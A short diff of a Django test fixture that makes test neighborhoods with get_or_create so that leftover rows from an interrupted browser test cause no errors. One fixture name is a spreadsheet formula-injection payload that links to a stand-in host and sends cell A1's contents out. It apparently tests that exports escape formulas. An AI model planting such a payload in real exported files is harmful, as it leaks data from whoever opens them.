@@ -67,8 +67,13 @@ def hand_cases(db, months):
     none."""
     this, last = months
     today = local_today()
-    riverside = Neighborhood.objects.create(name="Riverside", slug="riverside", order=1)
-    Neighborhood.objects.create(name='=HYPERLINK("http://x.example/?"&A1)', slug="f", order=2)
+    # get_or_create: a browser test interrupted before its flush leaves them behind.
+    riverside, _ = Neighborhood.objects.get_or_create(
+        slug="riverside", defaults={"name": "Riverside", "order": 1}
+    )
+    Neighborhood.objects.get_or_create(
+        slug="f", defaults={"name": '=HYPERLINK("http://x.example/?"&A1)', "order": 2}
+    )
     closed = []
     for days in (10, 20, 30, 40, 50, 60):
         case = make_case(
